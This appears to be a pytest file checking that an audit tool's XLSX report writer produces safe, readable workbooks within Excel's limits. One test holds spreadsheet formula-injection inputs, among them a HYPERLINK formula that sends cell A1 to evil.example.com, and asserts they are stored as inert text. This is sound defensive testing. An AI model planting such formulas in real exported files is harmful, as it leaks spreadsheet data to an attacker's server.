"""XLSX: read back by another library, harmless in a spreadsheet, within Excel's limits."""

from __future__ import annotations

import io
import re
import zipfile
from dataclasses import replace
from pathlib import Path

import pytest
from python_calamine import CalamineWorkbook

from pdsync.model import AuditReport, Gate, GateState
from pdsync.report import xlsx
from pdsync.report.rows import FindingRow, RecordRow
from pdsync.report.xlsx import write_xlsx
from tests.report.build import audit_report
from tests.report.found import NAMES, contact, finding, finding_rows, head, record_rows
from tests.report.golden import check


def written(
    folder: Path,
    report: AuditReport | None = None,
    findings: list[FindingRow] | None = None,
    records: list[RecordRow] | None = None,
) -> bytes:
    """A workbook."""
    stream = io.BytesIO()
    write_xlsx(
        stream,
        report or audit_report(),
        finding_rows() if findings is None else findings,
        record_rows() if records is None else records,
        scratch=str(folder),
    )
    return stream.getvalue()


def sheet(workbook: bytes, name: str) -> list[list[object]]:
    """The cells of a sheet, as a reader sees them."""
    held = CalamineWorkbook.from_filelike(io.BytesIO(workbook)).get_sheet_by_name(name)
    return [list(row) for row in held.to_python(skip_empty_area=False)]


def parts(workbook: bytes) -> dict[str, str]:
    """The files inside."""
    with zipfile.ZipFile(io.BytesIO(workbook)) as packed:
        return {name: packed.read(name).decode() for name in packed.namelist()}


def test_xlsx_golden(tmp_path: Path) -> None:
    """Every cell of every sheet; very long ones are cut here, to keep the file readable."""
    workbook = written(tmp_path)
    lines: list[str] = []
    for name in CalamineWorkbook.from_filelike(io.BytesIO(workbook)).sheet_names:
        lines.append(f"== {name}")
        lines += [" | ".join(str(cell)[:300] for cell in row) for row in sheet(workbook, name)]

    check("audit.xlsx.txt", lines)
    assert workbook == written(tmp_path), "same audit, same file"
    assert list(tmp_path.iterdir()) == [], "what was not yet packed is gone"


def test_one_row_per_finding_and_one_per_record(tmp_path: Path) -> None:
    """Both lists are complete."""
    workbook = written(tmp_path)

    assert len(sheet(workbook, "Findings")) == 1 + len(finding_rows())
    assert len(sheet(workbook, "Records")) == 1 + len(record_rows())


def test_no_cell_is_a_formula(tmp_path: Path) -> None:
    """Names arrive as they are, in cells that are declared to be text."""
    workbook = written(tmp_path)
    names = [row[5] for row in sheet(workbook, "Records")][1:]

    assert {'=HYPERLINK("https://evil.example.com?"&A1,"Lucile")', "-2+3", "@SUM(A1:A9)"} <= set(names)
    assert len(names) == 5 + len(NAMES)
    assert 'quotePrefix="1"' in parts(workbook)["xl/styles.xml"], "also once somebody edits the cell"
    for name, text in parts(workbook).items():
        assert "<f>" not in text, name
        assert not re.search("[\x00-\x08\x0b-\x1f\u202e]", text), name


@pytest.mark.parametrize(
    "name", ["_x0041_", " blanks ", "ends in _x", "&amp; <b>", "]]>", "x" * 40_000, "😀" * 20_000]
)
def test_texts_come_back(tmp_path: Path, name: str) -> None:
    """What looks like an escape of the format is none; what a cell does not take is cut."""
    workbook = written(tmp_path, findings=[finding(head("a", message=name), contact("c1"))], records=[])
    held = sheet(workbook, "Findings")[1][4]

    assert isinstance(held, str)
    assert held == name or (held.endswith("...") and len(held.encode("utf-16-le")) // 2 <= 32_767)


def test_heads_stay_in_sight_and_filter(tmp_path: Path) -> None:
    """The first row is frozen, every list filters, and no list is an empty promise."""
    held = parts(written(tmp_path))

    for number, last in ((2, "U23"), (3, "O26")):
        text = held[f"xl/worksheets/sheet{number}.xml"]
        assert '<pane xSplit="2" ySplit="1" topLeftCell="C2"' in text
        assert f'<autoFilter ref="A1:{last}"/>' in text
    assert '<autoFilter ref="A' in held["xl/worksheets/sheet1.xml"]


def test_links_lead_to_records_only(tmp_path: Path) -> None:
    """Real links, to addresses of the web; what somebody typed in their place is not one."""
    held = parts(written(tmp_path))
    targets = re.findall(
        r'Target="([^"]*)" TargetMode="External"', held["xl/worksheets/_rels/sheet3.xml.rels"]
    )

    assert {target.split("/")[2] for target in targets} == {"acme.pipedrive.com", "app.plezi.co"}
    assert len(targets) == 7
    assert "location=\"'Findings'!B2\"" in held["xl/worksheets/sheet1.xml"]


def test_more_rows_than_a_sheet_takes(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """They go on another sheet with a head of its own, and the first sheet says so."""
    monkeypatch.setattr(xlsx, "_ROWS", 8)
    workbook = written(tmp_path)
    held = CalamineWorkbook.from_filelike(io.BytesIO(workbook)).sheet_names

    assert held == [
        "Summary",
        "Findings",
        "Records",
        *(f"Findings {n}" for n in (2, 3, 4)),
        *(f"Records {n}" for n in (2, 3, 4)),
    ]
    lists = [sheet(workbook, name) for name in held if name.startswith("Findings")]
    assert [rows[0] for rows in lists] == [lists[0][0]] * 4
    assert sum(len(rows) - 1 for rows in lists) == len(finding_rows())
    notes = [str(row[1]) for row in sheet(workbook, "Summary")]
    assert (
        "Findings: 22 rows, more than a sheet takes; they go on in Findings 2, Findings 3, Findings 4."
        in notes
    )


def test_more_links_than_a_sheet_takes(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Excel would take all links of such a sheet away: further addresses are text, and the first sheet says so."""
    monkeypatch.setattr(xlsx, "_LINKS", 3)
    workbook = written(tmp_path)
    held = parts(workbook)

    assert held["xl/worksheets/sheet3.xml"].count("<hyperlink ") == 3
    assert [str(row[8]).startswith("https://") for row in sheet(workbook, "Records")].count(True) == 7
    assert any(
        str(row[1]).startswith("Records: 4 addresses are plain text, because Excel takes 3 links")
        for row in sheet(workbook, "Summary")
    )


def test_nothing_found(tmp_path: Path) -> None:
    """All ready: the lists have their heads, and the first sheet says ready."""
    ready = replace(
        audit_report(),
        gate=Gate(GateState.READY),
        summaries=tuple(replace(one, findings=0, records={}, samples=()) for one in audit_report().summaries),
    )
    workbook = written(tmp_path, ready, [], [])

    assert sheet(workbook, "Summary")[1][0] == "READY"
    assert len(sheet(workbook, "Findings")) == len(sheet(workbook, "Records")) == 1
